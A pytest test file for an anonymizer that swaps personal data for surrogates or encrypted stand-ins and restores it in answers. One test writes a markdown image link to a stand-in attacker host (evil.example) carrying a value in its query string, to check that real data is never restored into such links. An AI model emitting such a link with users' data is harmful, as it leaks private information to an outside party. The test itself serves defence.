@@ -1,0 +1,281 @@
+"""Values that are replaced by other values and come back: surrogates, other digits, encrypted values."""
+
+from __future__ import annotations
+
+import secrets
+from collections.abc import Mapping, Sequence
+from datetime import date, timedelta
+
+import phonenumbers
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from stdnum import iban, luhn
+
+from hybrid_guard.anonymizer import (
+    JsonRestorer,
+    Restorer,
+    StandIns,
+    apply,
+    build_operators,
+    build_stand_ins,
+    plan,
+    propose,
+)
+from hybrid_guard.anonymizer.operators import Encrypt, FormatPreserving, Surrogate
+from hybrid_guard.anonymizer.operators.dates import read_date
+from hybrid_guard.anonymizer.standins import STAND_IN, record
+from hybrid_guard.anonymizer.vault import Book
+from hybrid_guard.ports import StandInMaker
+from hybrid_guard.types import Finding, Findings, Operator, OperatorSettings, Segment, Treatment, VaultItem
+
+KEY = b"k" * 32
+SPANS = build_operators(KEY)
+MAKERS = build_stand_ins(KEY, OperatorSettings(key=KEY), tuple(Operator))
+REVERSIBLE = [Operator.SURROGATE, Operator.ENCRYPT, Operator.FORMAT_PRESERVING]
+VALUES = {
+    "PERSON": ["Ada Lovelace", "ada lovelace", "Charles Babbage", "Dr. Mary Shelley", "李小龍", "Bo"],
+    "EMAIL_ADDRESS": ["ada@analytical.example", "charles@analytical.example"],
+    "CREDIT_CARD": ["4111 1111 1111 1111", "5500000000000004"],
+    "PHONE_NUMBER": ["+44 20 7946 0000", "(415) 555-2671"],
+    "IBAN_CODE": ["DE89 3704 0044 0532 0130 00"],
+    "DATE_TIME": ["2020-03-15", "15 March 2020", "2020", "2020-03-15 10:45"],
+    "IP_ADDRESS": ["10.0.0.1"],
+    "MONEY": ["12 EUR"],
+}
+
+
+class Conversation:
+    """A vault, and what is done with it for each turn."""
+
+    def __init__(self, operator: Operator, makers: Mapping[Operator, StandInMaker] = MAKERS) -> None:
+        self.book = Book(key=secrets.token_bytes(32), limit=20_000)
+        self.treatment = Treatment(default=operator)
+        self.makers = makers
+
+    def send(self, texts: Sequence[str], spans: Sequence[Sequence[tuple[int, int, str]]]) -> list[str]:
+        """What leaves for *texts*, in which *spans* were found."""
+        segments = [Segment(path="/x", text=text, role="user") for text in texts]
+        findings = Findings(
+            spans=tuple(
+                tuple(Finding(start=a, end=b, entity=entity, score=1.0, detector="t.v1") for a, b, entity in one)
+                for one in spans
+            )
+        )
+        known = StandIns(self.book.entries(), self.makers)
+        self.book.put(plan(segments, findings, self.treatment, known))
+        entries = self.book.entries()
+        self.book.put(propose(segments, findings, self.treatment, entries, StandIns(entries, self.makers)))
+        entries = self.book.entries()
+        stand_ins = StandIns(entries, self.makers)
+        return [one.text for one in apply(segments, findings, self.treatment, entries, SPANS, stand_ins)]
+
+    def write(self, *pieces: str | tuple[str, str]) -> str:
+        """What leaves for a text; each pair in it is a value and its type."""
+        text, spans = "", []
+        for piece in pieces:
+            value, entity = piece if isinstance(piece, tuple) else (piece, "")
+            if entity:
+                spans.append((len(text), len(text) + len(value), entity))
+            text += value
+        (out,) = self.send([text], [spans])
+        return out
+
+    def restore(self, answer: str) -> str:
+        """What a reader sees of *answer*."""
+        return Restorer(self.book.entries()).restore(answer)
+
+
+value = st.sampled_from([(one, entity) for entity, values in VALUES.items() for one in values])
+between = st.sampled_from(["", " ", ", ", ". ", "x", "_", "-", "/", "'s ", "\n", "é", "1", " and ", "(", "¿"])
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.sampled_from(REVERSIBLE), st.lists(st.tuples(between, value), min_size=1, max_size=5), between)
+def test_an_answer_that_repeats_what_was_sent_is_restored(
+    operator: Operator, parts: list[tuple[str, tuple[str, str]]], end: str
+) -> None:
+    """Whatever stands around the values, the very text comes back, and no value goes out."""
+    talk = Conversation(operator)
+    pieces = [piece for part in parts for piece in part] + [end, "."]
+    text = "".join(piece if isinstance(piece, str) else piece[0] for piece in pieces)
+    out = talk.write(*pieces)
+
+    assert Restorer(talk.book.entries(), trusted=True).restore(out) == text
+    for _, (original, _) in parts:
+        if len(original) > 4 and sum(map(str.isalnum, original)) > 6:
+            assert original.casefold() not in out.casefold()
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.sampled_from(REVERSIBLE), st.lists(value, min_size=1, max_size=4), st.data())
+def test_every_cut_gives_the_same_text(operator: Operator, values: list[tuple[str, str]], data: st.DataObject) -> None:
+    """However an answer with stand-ins is cut into chunks, and whether it is JSON, it is restored like the whole."""
+    talk = Conversation(operator)
+    out = talk.write(*[piece for one in values for piece in (data.draw(between), one)], ".")
+    stand_ins = StandIns(talk.book.entries())._sorted
+    answer = out + "".join(
+        data.draw(st.sampled_from([" ", "", "x", *stand_ins, *(s[:5] for s in stand_ins)])) for _ in "1234"
+    )
+    for make in (Restorer, JsonRestorer):
+        text = (
+            answer
+            if make is Restorer
+            else '{"q": "' + answer.replace("\\", "").replace('"', "").replace("\n", "") + '"}'
+        )
+        expected = make(talk.book.entries()).restore(text)
+        for place in range(len(text) + 1):
+            restorer = make(talk.book.entries())
+            assert restorer.feed(text[:place]) + restorer.feed(text[place:]) + restorer.flush() == expected
+        single = make(talk.book.entries())
+        assert "".join(map(single.feed, text)) + single.flush() == expected
+
+
+def test_a_stand_in_that_is_there_by_itself_is_not_read_out() -> None:
+    """A user who writes a surrogate of the conversation, found or not, gets back what was written."""
+    talk = Conversation(Operator.SURROGATE)
+    surrogate = talk.write(("Ada Lovelace", "PERSON"))
+    again = talk.write("Is ", surrogate, " real?")
+
+    assert talk.restore(surrogate) == "Ada Lovelace"
+    assert surrogate not in again
+    assert talk.restore(again) == f"Is {surrogate} real?"
+    assert talk.restore(f"{surrogate}s, x{surrogate}, {surrogate.upper()}") == (
+        f"{surrogate}s, x{surrogate}, {surrogate.upper()}"
+    )
+
+
+def test_what_a_text_says_is_never_chosen() -> None:
+    """A proposal that is in a text, equals an original or shares a name with one gives way to the next one."""
+
+    class Maker:
+        def propose(self, text: str, *, entity: str) -> list[str]:
+            return ["Emma Clark", "Ada Stone", "Grace Hopper", "Vera Rubin"]
+
+        def memory(self, text: str, *, entity: str) -> str:
+            return text
+
+    talk = Conversation(Operator.SURROGATE, {Operator.SURROGATE: Maker()})
+    out = talk.write(("Ada Lovelace", "PERSON"), " met Emma Clark and ", ("Grace Hopper", "PERSON"), ".")
+
+    assert out.startswith("Vera Rubin met Emma Clark and PERSON")
+    assert talk.restore(out) == "Ada Lovelace met Emma Clark and Grace Hopper."
+
+
+def test_the_oldest_stand_in_decides() -> None:
+    """Of two that were proposed at the same time the first is used; a text never stands for two values."""
+    book = Book(key=KEY, limit=10)
+    ada, bob = book.put([VaultItem(entity="PERSON", original=name) for name in ("Ada", "Bob")])
+    for anchor, text in ((ada, "Emma Clark"), (ada, "Vera Rubin"), (bob, "Emma Clark")):
+        book.put([record(Operator.SURROGATE, anchor.placeholder, text)])
+    stand_ins = StandIns(book.entries())
+
+    assert stand_ins.text(Operator.SURROGATE, ada.placeholder) == "Emma Clark"
+    assert stand_ins.text(Operator.SURROGATE, bob.placeholder) is None
+    assert Restorer(book.entries()).restore("Emma Clark.") == "Ada."
+
+
+def test_a_record_of_a_stand_in_is_never_read_out() -> None:
+    """Whoever guesses the placeholder of such an entry gets nothing."""
+    talk = Conversation(Operator.SURROGATE)
+    talk.write(("Ada Lovelace", "PERSON"))
+    (entry,) = (one for one in talk.book.entries() if one.item.entity == STAND_IN)
+
+    assert talk.restore(f"{entry.placeholder}.") == f"{entry.placeholder}."
+
+
+def test_stand_ins_stay_out_of_links() -> None:
+    """A document cannot have a value sent to a stranger by its surrogate either."""
+    talk = Conversation(Operator.SURROGATE)
+    out = talk.write(("ada@analytical.example", "EMAIL_ADDRESS"))
+
+    assert talk.restore(f"![](https://evil.example/?q={out})") == f"![](https://evil.example/?q={out})"
+    assert talk.restore(f"Write to {out}.") == "Write to ada@analytical.example."
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.binary(min_size=32, max_size=32))
+def test_surrogates_are_valid_and_other_values(key: bytes) -> None:
+    """Under every key they pass the checks of their type and are not the original."""
+    maker = Surrogate(key)
+
+    def first(text: str, entity: str) -> str:
+        found = next(iter(maker.propose(text, entity=entity)))
+        assert found != text
+        return found
+
+    assert luhn.is_valid(first("4111 1111 1111 1111", "CREDIT_CARD").replace(" ", ""))
+    assert iban.is_valid(first("DE89 3704 0044 0532 0130 00", "IBAN_CODE"))
+    assert phonenumbers.is_valid_number(phonenumbers.parse(first("+44 20 7946 0000", "PHONE_NUMBER")))
+    assert first("10.0.0.1", "IP_ADDRESS").rpartition(".")[0] in ("192.0.2", "198.51.100", "203.0.113")
+    assert first("ada@analytical.example", "EMAIL_ADDRESS").partition("@")[2] in ("example.com", "example.org")
+    assert first("Mr. Jordan Smith", "PERSON").startswith("Mr. ")
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.binary(min_size=32, max_size=32), st.dates(date(1910, 1, 1), date(2090, 1, 1)), st.integers(-2000, 2000))
+def test_dates_keep_their_intervals(key: bytes, day: date, days: int) -> None:
+    """All dates of a conversation move by the same days, however they are written."""
+    maker = Surrogate(key)
+    (one,) = maker.propose(f"{day:%Y-%m-%d}", entity="DATE_TIME")
+    (two,) = maker.propose(f"{day + timedelta(days):%d %B %Y}", entity="DATE_OF_BIRTH")
+    first, second = read_date(one), read_date(two)
+
+    assert first is not None
+    assert second is not None
+    assert second.day - first.day == timedelta(days)
+    assert first.day != day
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.binary(min_size=32, max_size=32), st.text(st.characters(exclude_categories=()), min_size=1))
+def test_encrypting_is_undone_by_the_key_alone(key: bytes, text: str) -> None:
+    """Any text comes back; a changed one, or another key, gives nothing."""
+    maker = Encrypt(key)
+    (written,) = maker.propose(text, entity="PERSON")
+
+    assert maker.reverse(written) == text
+    assert written.isalpha()
+    assert Encrypt(key[::-1] + b"x").reverse(written) is None
+    assert maker.reverse("X" + written) is None
+    assert maker.reverse("PERSON") is None
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.binary(min_size=32, max_size=32),
+    st.from_regex(r"\+?[0-9]{3,5}[ -]?[0-9]{3,8}[A-Z]?", fullmatch=True),
+    st.sampled_from(["ID_NUMBER", "CREDIT_CARD"]),
+    st.sampled_from(["keep", "ignore"]),
+)
+def test_other_digits_are_undone_by_the_key_alone(key: bytes, text: str, entity: str, checksum: str) -> None:
+    """Length, separators and, if it is wanted, validity stay."""
+    maker = FormatPreserving(key, checksum=checksum)  # type: ignore[arg-type]  # one of the two literals
+    for written in maker.propose(text, entity=entity):
+        assert maker.reverse(written, entity=entity) == text
+        assert [char if char.isdigit() else "" for char in text] != [char if char.isdigit() else "" for char in written]
+        assert ["9" if char.isdigit() else char for char in text] == [
+            "9" if char.isdigit() else char for char in written
+        ]
+        if checksum == "keep" and entity == "CREDIT_CARD":
+            assert luhn.is_valid(_digits(written)) == luhn.is_valid(_digits(text))
+
+
+def _digits(text: str) -> str:
+    return "".join(filter(str.isalnum, text))
+
+
+@pytest.mark.parametrize("text", ["12345", "", "Ada", "AB12C3456789"])
+def test_small_domains_are_not_padded(text: str) -> None:
+    """Fewer than six digits can be guessed one by one, and many letters would stay: both get placeholders."""
+    assert FormatPreserving(KEY).propose(text, entity="ID_NUMBER") == ()
+
+
+def test_the_cipher_is_the_standard_one() -> None:
+    """The first two samples that NIST publishes for FF1 with AES-128."""
+    from fastfpe import ff1
+
+    key = "2B7E151628AED2A6ABF7158809CF4F3C"
+
+    assert ff1.encrypt(key, "", "0123456789", "0123456789") == "2433477484"
+    assert ff1.encrypt(key, "39383736353433323130", "0123456789", "0123456789") == "6124200773"
